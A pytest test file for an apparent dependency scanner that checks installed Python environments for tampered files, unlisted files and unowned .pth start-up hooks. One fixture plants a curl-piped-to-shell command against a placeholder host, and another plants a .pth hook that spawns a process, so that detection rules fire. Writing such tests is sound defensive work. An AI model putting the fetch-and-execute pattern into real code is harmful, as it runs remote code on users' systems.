"""Installed environments: one result per distribution, RECORD checks, unowned start-up files."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from demo.builders import write_site_packages, write_tree

from depvet.analysis.engine import Ruleset, scan_artifact
from depvet.artifacts.targets import expand_target
from depvet.cli import main
from depvet.model import Verdict

SITE = Path("lib/python3.11/site-packages")


def scan_env(root: Path, ruleset: Ruleset) -> dict[str, list[str]]:
    return {
        ref.target: [f.rule_id for f in scan_artifact(ref, ruleset).findings]
        for ref in expand_target(str(root))
    }


def test_each_distribution_is_one_result_and_clean_ones_stay_clean(tmp_path: Path, ruleset: Ruleset) -> None:
    venv = write_site_packages(tmp_path / "venv", "alpha", "1.0", {"alpha/__init__.py": "A = 1\n"})
    write_site_packages(venv, "beta", "2.0", {"beta/__init__.py": "B = 2\n"})
    results = scan_env(venv, ruleset)
    assert sorted(Path(t).name for t in results) == ["alpha-1.0.dist-info", "beta-2.0.dist-info"]
    assert all(rules == [] for rules in results.values())


def test_tampered_file_and_unlisted_file_are_reported(tmp_path: Path, ruleset: Ruleset) -> None:
    venv = write_site_packages(
        tmp_path / "venv",
        "alpha",
        "1.0",
        {
            "alpha/__init__.py": "A = 1\n",
            "+alpha/__init__.py": "import os\nos.system('curl -s https://x.invalid | sh')\n",
            "+alpha/_hook.py": "B = 2\n",
            "-alpha/gone.py": "C = 3\n",
        },
    )
    (rules,) = scan_env(venv, ruleset).values()
    assert {"DV803", "DV804", "DV808", "DV106"} <= set(rules)


def test_unowned_pth_in_site_packages_is_scanned_as_its_own_result(tmp_path: Path, ruleset: Ruleset) -> None:
    venv = write_site_packages(tmp_path / "venv", "alpha", "1.0", {"alpha/__init__.py": "A = 1\n"})
    write_tree(
        venv / SITE,
        {
            "zz_init.pth": "import subprocess, sys; subprocess.Popen([sys.executable, '-c', 'print(1)'])\n",
            "_virtualenv.pth": "import _virtualenv\n",
        },
    )
    results = scan_env(venv, ruleset)
    unowned = next(rules for target, rules in results.items() if "no RECORD lists" in target)
    assert "DV101" in unowned
    assert unowned.count("DV804") == 1  # zz_init.pth; virtualenv's own hook is known


def test_cli_json_has_one_result_per_distribution(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    venv = write_site_packages(tmp_path / "venv", "alpha", "1.0", {"alpha/__init__.py": "A = 1\n"})
    write_site_packages(venv, "beta", "2.0", {"beta/__init__.py": "B = 2\n"})
    assert main(["scan", str(venv), "--format", "json", "-q", "-j", "1"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert [(r["name"], r["version"], r["verdict"]) for r in document["results"]] == [
        ("alpha", "1.0", "clean"),
        ("beta", "2.0", "clean"),
    ]


def test_a_real_virtualenv_with_pip_is_scanned_without_errors(tmp_path: Path, ruleset: Ruleset) -> None:
    venv = tmp_path / "real-venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True, capture_output=True)
    refs = expand_target(str(venv))
    assert any("pip-" in ref.target for ref in refs)
    results = [scan_artifact(ref, ruleset) for ref in refs]
    assert all(r.verdict is not Verdict.ERROR for r in results), [r.error for r in results]
    assert all(r.verdict is Verdict.CLEAN for r in results), [
        (r.name, [(f.rule_id, f.path, f.evidence) for f in r.findings if f.severity.rank >= 3])
        for r in results
    ]
